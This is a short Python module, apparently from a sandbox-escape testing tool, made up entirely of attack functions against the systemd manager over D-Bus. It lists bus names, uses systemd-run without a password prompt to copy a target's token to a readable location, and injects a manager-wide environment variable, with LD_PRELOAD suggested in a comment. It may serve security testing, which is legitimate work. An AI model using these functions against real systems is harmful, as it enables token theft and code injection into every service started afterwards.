"""Attacks by D-Bus: the manager runs for anybody who asks it what they say, in no sandbox."""

import subprocess

from .prey import Prey
from .reasons import Stopped

NAMES = ("org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus", "ListNames")


def list_names(path: str) -> str:
    """Who is on a bus."""
    return _run("busctl", f"--address=unix:path={path}", "call", *NAMES)


def steal(prey: Prey) -> str:
    """A unit that copies the token where anybody reads it, asked for over the bus."""
    copy = ["cp", prey.token, f"{prey.home}/stolen"]
    return _run("systemd-run", prey.manager_option, "--no-ask-password", "--wait", *copy)


def set_environment(prey: Prey) -> str:
    """A variable for all that starts from now on, LD_PRELOAD perhaps: by systemd's own socket."""
    return _run("systemctl", prey.manager_option, "set-environment", "PIKER_HOSTILE=1")


def _run(*command: str) -> str:
    """What a program of the system's prints. Raises Stopped with its complaint."""
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    if done.returncode:
        raise Stopped(done.stderr.strip())
    return done.stdout
